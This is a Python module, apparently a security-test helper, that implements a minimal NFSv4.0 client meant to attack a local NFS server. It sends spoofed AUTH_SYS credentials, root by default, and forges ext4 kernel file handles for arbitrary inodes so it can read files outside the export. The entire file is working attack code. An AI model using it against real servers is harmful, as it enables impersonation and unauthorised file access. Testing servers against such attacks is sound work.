# A client of NFSv4.0 that does what no honest client does: handles that it made up, and users that it is not.
"""Only as much of RFC 5531 and RFC 7530 as `nfs` needs to attack its own box."""
import socket
import struct

PUTFH, PUTROOTFH, LOOKUP, GETFH, READ, READDIR, GETATTR = 22, 24, 15, 10, 25, 26, 9
OK = 0


class Refused(Exception):
    """The server answered with an error: its number, and at which step."""

    def __init__(self, status, step):
        super().__init__(f"error {status} at step {step}")
        self.status = status


def opaque(data):
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


class Client:
    """Asks as any user it likes."""

    def __init__(self, port, uid=0, gid=0):
        self.address, self.uid, self.gid = ("127.0.0.1", port), uid, gid

    def call(self, *steps):
        """The results of the steps, as bytes after the head of each."""
        user = struct.pack(">I", 0) + opaque(b"spoof") + struct.pack(">III", self.uid, self.gid, 0)
        body = struct.pack(">IIIIII", 7, 0, 2, 100003, 4, 1) + struct.pack(">I", 1) + opaque(user) + struct.pack(">II", 0, 0)
        body += struct.pack(">III", 0, 0, len(steps)) + b"".join(steps)
        with socket.create_connection(self.address, 60) as line:
            line.settimeout(60)
            line.sendall(struct.pack(">I", len(body) | 1 << 31) + body)
            reply, last = b"", False
            while not last:
                head = struct.unpack(">I", self.exactly(line, 4))[0]
                last = bool(head >> 31)
                reply += self.exactly(line, head & 0x7fffffff)
        if struct.unpack(">IIIIII", reply[:24]) != (7, 1, 0, 0, 0, 0):
            raise Refused(-1, "the call itself")
        status = struct.unpack(">I", reply[24:28])[0]
        if status != OK:
            raise Refused(status, struct.unpack(">II", reply[-8:])[0])
        return reply[36:]

    @staticmethod
    def exactly(line, count):
        got = b""
        while len(got) < count:
            piece = line.recv(count - len(got))
            if not piece:
                raise Refused(-2, "the line")
            got += piece
        return got

    def handle(self, path):
        """The handle of what is honestly reached by names."""
        steps = [struct.pack(">I", PUTROOTFH)]
        steps += [struct.pack(">I", LOOKUP) + opaque(name.encode()) for name in path.split("/") if name]
        said = self.call(*steps, struct.pack(">I", GETFH))
        rest = said[8 * len(steps) + 8:]
        return rest[4:4 + struct.unpack(">I", rest[:4])[0]]

    def read(self, handle):
        """What is read by a handle, however it was come by."""
        said = self.call(struct.pack(">I", PUTFH) + opaque(handle),
                         struct.pack(">I", READ) + b"\xff" * 16 + struct.pack(">QI", 0, 4096))
        return said[24:24 + struct.unpack(">I", said[20:24])[0]]

    def look_up(self, handle, name):
        """The handle of a name in a folder, come by however."""
        said = self.call(struct.pack(">I", PUTFH) + opaque(handle), struct.pack(">I", LOOKUP) + opaque(name.encode()), struct.pack(">I", GETFH))
        rest = said[24:]
        return rest[4:4 + struct.unpack(">I", rest[:4])[0]]


def forged(honest, inode, generation, parent=None):
    """A handle like `honest`, of another inode: as the kernel writes those of ext4 (fs/nfsd/nfsfh.h, include/linux/exportfs.h)."""
    # version 1, no authentication, fsid of one number, then what kind of inode: with its folder (2) or without (1).
    if honest[:3] != b"\x01\x00\x01":
        raise ValueError(f"a handle of another make: {honest.hex()}")
    kind = 1 if parent is None else 2
    made = honest[:3] + bytes([kind]) + honest[4:8] + struct.pack("<II", inode, generation)
    return made + (struct.pack("<II", *parent) if parent else b"")
